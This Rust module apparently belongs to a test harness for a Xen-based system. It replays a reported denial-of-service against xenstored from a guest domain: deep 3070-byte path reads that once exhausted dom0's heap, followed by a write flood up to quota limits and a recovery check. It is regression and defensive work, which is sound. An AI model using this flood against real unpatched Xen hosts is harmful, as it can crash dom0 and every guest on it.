//! `xs-flood`: what a hostile domU does to xenstored's memory (issue 10,
//! finding 3), run from its console so a scenario can watch dom0 survive it.
//!
//! Over the domain's own store connection, in order:
//! 1. inside a transaction, `XS_READ` of `/a/a/…/a` then of `/b/b/…/b`, 1535
//!    components each (3070 bytes, under `XENSTORE_ABS_PATH_MAX`): each used
//!    to make xenstored record every ancestor (~2.4 MB), the second
//!    exhausting dom0's heap;
//! 2. in the same transaction, reads of four of the longest paths a domU may
//!    name (1024 components, 2048 bytes; `/c/c/…` to `/f/f/…`), each of which
//!    used to record ~1 MB; then the transaction is aborted;
//! 3. writes of 2048-byte values to `data/flood/<n>` until the daemon
//!    refuses ([`MAX_WRITES`] at most);
//! 4. removal of `data/flood`, then one more write, which must work again.
//!
//! The store is reached through [`Store`], implemented by the kernel over
//! pvrt's client and by the host tests over the real daemon. Nothing here
//! allocates: paths are built in fixed buffers.
#![forbid(unsafe_code)]

/// Components of the reported attack path.
pub const ATTACK_COMPONENTS: usize = 1535;
/// Components of the longest path a domU may name (2048 bytes).
pub const LONGEST_COMPONENTS: usize = 1024;
/// Bytes of each flood value (xenstored's value quota).
pub const VALUE_LEN: usize = 2048;
/// Writes tried at most (above any byte quota the daemon may have: 1000
/// nodes is its node quota).
pub const MAX_WRITES: u32 = 1100;

/// What the flood needs of a xenstore connection (`tx` 0 = none).
pub trait Store {
    /// The error a request fails with.
    type Error: Copy;
    /// `XS_TRANSACTION_START`.
    fn start(&mut self) -> Result<u32, Self::Error>;
    /// `XS_TRANSACTION_END` (`commit` false aborts).
    fn end(&mut self, tx: u32, commit: bool) -> Result<(), Self::Error>;
    /// `XS_READ`, the value dropped.
    fn read(&mut self, tx: u32, path: &str) -> Result<(), Self::Error>;
    /// `XS_WRITE` outside any transaction.
    fn write(&mut self, path: &str, value: &[u8]) -> Result<(), Self::Error>;
    /// `XS_RM` outside any transaction.
    fn rm(&mut self, path: &str) -> Result<(), Self::Error>;
}

/// What each step got.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Report<E> {
    /// The transaction could be started (else the reads ran outside one).
    pub tx_started: Result<(), E>,
    /// The reads of the two 3070-byte paths.
    pub attack: [Result<(), E>; 2],
    /// The reads of the four 2048-byte paths.
    pub longest: [Result<(), E>; 4],
    /// Writes that succeeded.
    pub writes: u32,
    /// The error that stopped them (`None`: [`MAX_WRITES`] all succeeded).
    pub write_error: Option<E>,
    /// Removing `data/flood`.
    pub removed: Result<(), E>,
    /// A write after the removal.
    pub after: Result<(), E>,
}

/// `/<letter>` repeated `n` times, in `buf` (which must hold `2n` bytes).
pub fn deep_path(buf: &mut [u8], n: usize, letter: u8) -> &str {
    let p = &mut buf[..2 * n];
    for c in p.chunks_exact_mut(2) {
        c.copy_from_slice(&[b'/', letter]);
    }
    // Only ASCII was written.
    core::str::from_utf8(p).unwrap_or("/")
}

/// `data/flood/<n>` in `buf`.
fn flood_path(buf: &mut [u8; 32], n: u32) -> &str {
    const PREFIX: &[u8] = b"data/flood/";
    buf[..PREFIX.len()].copy_from_slice(PREFIX);
    let mut digits = [0u8; 10];
    let mut i = digits.len();
    let mut v = n;
    loop {
        i -= 1;
        digits[i] = b'0' + (v % 10) as u8;
        v /= 10;
        if v == 0 {
            break;
        }
    }
    let d = &digits[i..];
    buf[PREFIX.len()..PREFIX.len() + d.len()].copy_from_slice(d);
    core::str::from_utf8(&buf[..PREFIX.len() + d.len()]).unwrap_or("data/flood/x")
}

/// Runs the flood (see the module documentation).
pub fn run<S: Store>(s: &mut S) -> Report<S::Error> {
    let mut path = [0u8; 2 * ATTACK_COMPONENTS];
    let started = s.start();
    let tx = *started.as_ref().unwrap_or(&0);
    let a0 = s.read(tx, deep_path(&mut path, ATTACK_COMPONENTS, b'a'));
    let a1 = s.read(tx, deep_path(&mut path, ATTACK_COMPONENTS, b'b'));
    let longest = b"cdef".map(|l| s.read(tx, deep_path(&mut path, LONGEST_COMPONENTS, l)));
    if tx != 0 {
        let _ = s.end(tx, false);
    }
    let value = [b'f'; VALUE_LEN];
    let mut name = [0u8; 32];
    let mut writes = 0;
    let mut write_error = None;
    while writes < MAX_WRITES {
        match s.write(flood_path(&mut name, writes), &value) {
            Ok(()) => writes += 1,
            Err(e) => {
                write_error = Some(e);
                break;
            }
        }
    }
    let removed = s.rm("data/flood");
    let after = s.write(flood_path(&mut name, 0), b"after");
    let _ = s.rm("data/flood");
    Report {
        tx_started: started.map(drop),
        attack: [a0, a1],
        longest,
        writes,
        write_error,
        removed,
        after,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths() {
        let mut b = [0u8; 2 * ATTACK_COMPONENTS];
        let p = deep_path(&mut b, ATTACK_COMPONENTS, b'a');
        assert_eq!(p.len(), 3070);
        assert_eq!(p.split('/').count(), ATTACK_COMPONENTS + 1);
        assert!(p.starts_with("/a/a/") && p.ends_with("/a"));
        let p = deep_path(&mut b, LONGEST_COMPONENTS, b'c');
        assert_eq!(p.len(), 2048);
        assert!(p.starts_with("/c/c/"));
        let mut n = [0u8; 32];
        assert_eq!(flood_path(&mut n, 0), "data/flood/0");
        assert_eq!(flood_path(&mut n, 1099), "data/flood/1099");
        assert_eq!(flood_path(&mut n, u32::MAX), "data/flood/4294967295");
    }
}
